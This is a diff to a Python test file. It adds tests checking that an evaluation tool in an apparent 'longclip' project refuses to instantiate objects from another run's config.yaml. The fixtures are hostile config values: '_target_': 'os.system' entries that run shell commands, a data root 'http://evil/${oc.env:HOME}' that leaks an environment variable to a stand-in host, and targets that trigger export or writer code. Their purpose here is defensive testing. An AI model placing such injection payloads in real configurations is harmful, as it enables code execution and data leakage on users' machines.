@@ -9,6 +9,7 @@ from omegaconf import OmegaConf
 
 from conf import launch
 from eval.leaks import trained_on
+from eval.own import judged_as_trained
 from longclip import models
 from longclip.cli import main
 from longclip.types import UserError
@@ -56,7 +57,7 @@ def test_a_users_own_package_is_named_once_and_then_works(tmp_path, monkeypatch)
 
 
 def test_a_run_of_somebody_else_is_judged_without_looking_at_its_config(tmp_path, marker):
-    """eval.run takes its config from conf/ and the command line, the model from the checkpoint alone."""
+    """eval.run builds what conf/ and the command line say, the model from the checkpoint alone."""
     (tmp_path / "checkpoints").mkdir()
     evil = {"_target_": "os.system", "command": f"touch {marker}"}
     (tmp_path / "config.yaml").write_text(yaml.safe_dump({"data": evil, "model": evil, "recipe": evil}))
@@ -65,8 +66,28 @@ def test_a_run_of_somebody_else_is_judged_without_looking_at_its_config(tmp_path
     assert main(["preview", str(tmp_path), "--recipe", str(tmp_path)]) == 2
     assert trained_on(str(tmp_path)) == []  # what eval.run reads of it: names of folders, nothing is built
     for path in (ROOT / "eval").rglob("*.py"):
-        assert "config.yaml" not in path.read_text() or path.name == "leaks.py", path
+        assert "config.yaml" not in path.read_text() or path.name in ("leaks.py", "own.py"), path
     assert "config.yaml" not in (ROOT / "longclip" / "models.py").read_text()
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        {"_target_": "os.system", "command": "true"},
+        {"_target_": "longclip.data.tars.shards.Writer", "directory": "x"},
+        {"_target_": "longclip.data.module.DataModule", "augment": {"_target_": "longclip.export.push.push"}},
+        {"_target_": "longclip.data.module.DataModule", "root": "http://evil/${oc.env:HOME}"},
+    ],
+)
+def test_a_run_of_somebody_else_chooses_what_it_is_judged_on_among_ours(tmp_path, data):
+    theirs = {"data": data, "benchmark": {"x": {"_target_": "longclip.evaluate.Retrieval"}}}
+    (tmp_path / "config.yaml").write_text(yaml.safe_dump(theirs))
+    config = OmegaConf.create({"source": str(tmp_path), "data": {}, "benchmark": {}})
+    with pytest.raises(UserError, match=r"may be anybody's: choose data=\.\.\. and benchmark=\.\.\."):
+        judged_as_trained(config, [])
+    theirs["data"] = {"_target_": "longclip.data.module.DataModule", "prepare": {"_target_": "evil"}}
+    (tmp_path / "config.yaml").write_text(yaml.safe_dump(theirs))
+    assert judged_as_trained(config, []).data.prepare is None, "nothing is made"
 
 
 def test_a_model_folder_cannot_have_its_own_code_run(tmp_path, marker, tiny):
